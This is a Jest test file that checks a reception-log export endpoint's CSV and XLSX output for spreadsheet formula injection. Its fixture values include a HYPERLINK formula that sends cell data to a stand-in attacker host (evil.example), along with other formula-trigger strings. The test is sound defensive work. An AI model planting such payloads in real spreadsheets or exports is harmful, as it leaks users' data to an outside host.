import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { bearer, startServer, type TestServer } from './helpers/server.js';
import { api, binary } from './helpers/client.js';
import { setClock } from './helpers/clock.js';
import { guideCase, minutes, session, ward } from './helpers/minutes-fixtures.js';

/** What a citizen may type that a spreadsheet program would run as a formula. */
const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")';
const SUMMARY = '+1';
const PREVIOUSLY = '-2';
const NOTE = '@SUM(A1:A9)';

/** The cells of the CSV data rows (quoted fields with doubled quotes, CRLF records). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('exports never hand a spreadsheet program a formula', () => {
  let t: TestServer;
  let unitId: string;
  const log = (format: string) => api(`/reception-log?unitId=${unitId}&from=2026-03-01&to=2026-03-31&format=${format}`);

  beforeAll(async () => {
    t = await startServer({ env: { TEST_CLOCK: 'true' } });
    await setClock(t, '2026-03-02T01:00:00Z');
    const w = await ward(t);
    unitId = w.unitId;
    const minutesId = await minutes(t, await session(t, w, '2026-03-05'));
    const res = await t
      .http()
      .post(api(`/minutes/${minutesId}/cases`))
      .set(bearer(await t.token('secretary')))
      .send(
        guideCase({ fullName: NAME, address: '=1+1', summary: SUMMARY, previouslyHandledBy: PREVIOUSLY, note: NOTE }),
      );
    expect(res.status).toBe(201);
  });
  afterAll(() => t.close());

  it('prefixes every formula-looking CSV cell of the reception log with an apostrophe', async () => {
    const res = await t
      .http()
      .get(log('csv'))
      .set(bearer(await t.token('secretary')))
      .buffer(true)
      .parse(binary);
    expect(res.status).toBe(200);
    const [, row] = csvRows((res.body as Buffer).toString('utf8').slice(1));
    expect(row![2]).toBe(`'${NAME}\n=1+1`);
    expect(row![4]).toBe(`'${SUMMARY}`);
    expect(row![6]).toBe(`'${PREVIOUSLY}`);
    expect(row![11]).toBe(`'${NOTE}`);
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the same texts as plain string cells (never formulas) in the XLSX export', async () => {
    const res = await t
      .http()
      .get(log('xlsx'))
      .set(bearer(await t.token('secretary')))
      .buffer(true)
      .parse(binary);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never);
    const ws = wb.getWorksheet('Sổ tiếp công dân')!;
    const expected: Record<number, string> = { 3: `${NAME}\n=1+1`, 5: SUMMARY, 7: PREVIOUSLY, 12: NOTE };
    for (const [col, text] of Object.entries(expected)) {
      const cell = ws.getCell(6, Number(col)); // rows 1–5: title, period, two header rows, the numbering row
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(text);
    }
    ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
